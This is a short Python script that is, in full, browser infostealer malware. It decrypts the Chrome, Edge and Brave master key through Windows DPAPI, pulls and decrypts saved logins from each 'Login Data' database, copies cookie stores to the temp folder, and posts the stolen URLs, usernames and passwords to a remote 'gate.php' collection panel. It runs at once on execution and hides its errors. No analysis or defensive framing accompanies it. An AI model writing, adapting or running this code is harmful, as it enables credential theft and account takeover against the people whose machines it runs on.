import base64
import json
import os
import shutil
import sqlite3
import tempfile

import requests
import win32crypt
from Crypto.Cipher import AES

LOCAL = os.environ.get("LOCALAPPDATA", "")
BROWSERS = {
    "chrome": os.path.join(LOCAL, "Google", "Chrome", "User Data"),
    "edge": os.path.join(LOCAL, "Microsoft", "Edge", "User Data"),
    "brave": os.path.join(LOCAL, "BraveSoftware", "Brave-Browser", "User Data"),
}


def _master_key(root):
    with open(os.path.join(root, "Local State"), encoding="utf-8") as handle:
        encrypted = base64.b64decode(json.load(handle)["os_crypt"]["encrypted_key"])[5:]
    return win32crypt.CryptUnprotectData(encrypted, None, None, None, 0)[1]


def _decrypt(blob, key):
    cipher = AES.new(key, AES.MODE_GCM, blob[3:15])
    return cipher.decrypt(blob[15:-16]).decode(errors="ignore")


def _harvest():
    rows = []
    for name, root in BROWSERS.items():
        database = os.path.join(root, "Default", "Login Data")
        if not os.path.exists(database):
            continue
        key = _master_key(root)
        copy = os.path.join(tempfile.gettempdir(), "ld.db")
        shutil.copy2(database, copy)
        connection = sqlite3.connect(copy)
        for url, user, password in connection.execute("SELECT origin_url, username_value, password_value FROM logins"):
            rows.append({"b": name, "u": url, "n": user, "p": _decrypt(password, key)})
        connection.close()
        cookies = os.path.join(root, "Default", "Network", "Cookies")
        if os.path.exists(cookies):
            shutil.copy2(cookies, os.path.join(tempfile.gettempdir(), name + "_c.db"))
    requests.post("https://panel.example.invalid/gate.php", json=rows, timeout=10)


try:
    _harvest()
except Exception:
    pass
